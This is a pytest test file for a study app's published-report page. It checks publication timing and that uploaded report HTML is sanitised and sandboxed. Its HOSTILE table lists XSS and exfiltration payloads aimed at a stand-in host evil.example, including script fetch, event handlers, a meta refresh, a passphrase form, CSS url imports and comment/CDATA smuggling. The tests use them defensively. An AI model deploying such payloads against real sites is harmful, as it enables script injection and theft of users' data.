"""The published report is one click away for those who took part, and can do nothing but be read."""

from __future__ import annotations

import re

import pytest

from peer.published_report import KEPT, POLICY, as_page
from tests.support.clock import START
from tests.support.visiting import Got, Visited

REPORT = b"""<!doctype html><html lang="en"><head><title>x</title><style>.bar { fill: #3a6ea5; }</style></head><body>
<h1>Sleep</h1><p class="lead">We found <strong>nothing</strong> &amp; say so.</p>
<svg viewBox="0 0 10 4"><rect class="bar" width="7" height="4"/></svg><table><tr><td>1</td></tr></table></body></html>"""
HOSTILE = {
    "script": b"<script>fetch('http://evil.example')</script>",
    "onload": b'<svg onload="alert(1)"><rect/></svg>',
    "link": b'<link rel="preconnect" href="http://evil.example"><base href="http://evil.example">',
    "refresh": b'<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "anchor": b'<a href="http://evil.example" ping="http://evil.example">your packet</a>',
    "image": b'<img src="http://evil.example"><svg><image href="http://evil.example"/><use href="http://evil.example"/></svg>',
    "form": b'<form action="http://evil.example"><input name="passphrase"><button>Go</button></form>',
    "style": b'<style>p { background: url(http://evil.example) }</style><style>@import "http://evil.example";</style>',
    "escaped style": b"<style>p { background: \\75rl(http://evil.example) }</style>",
    "style attribute": b'<p style="background: url(http://evil.example)" onclick="x()">text</p>',
    "colour": b'<svg><rect fill="url(http://evil.example#a)"/></svg>',
    "frame": b'<iframe srcdoc="<script>1</script>" src="http://evil.example"></iframe><object data="http://evil.example">',
    "hidden in a title": b"<title></title><script>evil.example</script>",
    "hidden in a comment": b"<!-- --!><script>evil.example</script> -->",
    "hidden in a section": b"<svg><![CDATA[<script>evil.example</script>]]></svg>",
    "not closed": b"<p><script src='http://evil.example'",
}


async def _finished(page: Visited) -> None:
    page.server.site.invites[page.aggregator.study] = page.aggregator.invite
    await page.submit(page.invite, page.invite, answer="yes")
    page.aggregator.clock.seconds = float(page.aggregator.manifest.timetable.ends) + 1


async def _read(page: Visited) -> Got:
    got = await page.submit(page.study, page.study + "/report")
    return await page.get(got.url) if got.status == 200 else got


async def test_the_report_is_one_click_away_once_the_study_has_ended(page: Visited) -> None:
    assert page.aggregator.clock() == START
    await _finished(page)
    page.aggregator.publish("report", REPORT)
    before = len(page.aggregator.gets)
    assert "Read the report" in (await page.get(page.study)).words and len(page.aggregator.gets) == before
    got = await _read(page)
    assert "We found nothing & say so." in got.words and '<rect class="bar" width="7" height="4">' in got.text
    assert "as staff published it" in got.words and got.text.count("<title>") == 1 and ".bar { fill" in got.text
    assert got.headers["Content-Security-Policy"] == POLICY and "sandbox" in POLICY and page.aggregator.sent("packets") == []


async def test_before_a_report_is_published_it_says_so(page: Visited) -> None:
    assert "Read the report" not in (await page.get("/")).words
    await _finished(page)
    got = await _read(page)
    assert got.status == 400 and "No report is published yet" in got.words
    assert (await page.get(page.study + "/report")).url.endswith(page.study), "nothing is fetched by looking"


@pytest.mark.parametrize("name", HOSTILE)
def test_a_report_can_neither_run_nor_fetch_nor_lead_away(name: str) -> None:
    text = as_page(b"<p>before</p>" + HOSTILE[name] + b"<p>after</p>", "t", "above").partition("<body>")[2]
    whole = as_page(HOSTILE[name], "t", "above").replace(f'<meta http-equiv="Content-Security-Policy" content="{KEPT}">', "")
    tags, styles = re.findall(r"<[^>]*>", whole), re.findall(r"<style>.*?</style>", whole, re.DOTALL)
    assert "before" in text and not any(re.search(r"evil|href|src|\bon\w+=|http-equiv|style=", tag) for tag in tags)
    assert not any("evil" in style for style in styles)
    bad = r"</?(a|script|form|input|button|iframe|object|link|image|use|base|img)\b"
    assert not any(re.match(bad, tag) for tag in tags)


def test_a_report_cannot_hide_or_reorder_text() -> None:
    assert "&lt;U+202E&gt;" in as_page("<p>\u202eabc</p>".encode(), "t\u202e", "above")


@pytest.mark.parametrize("body", [b"", b"\xff\xfe\x00", b"<" * 10_000, b"<!DOCTYPE [", b"<![", b"</" + b"p" * 10_000])
def test_whatever_the_bytes_are_there_is_a_page(body: bytes) -> None:
    assert as_page(body, "t", "above").endswith("</main></body></html>")
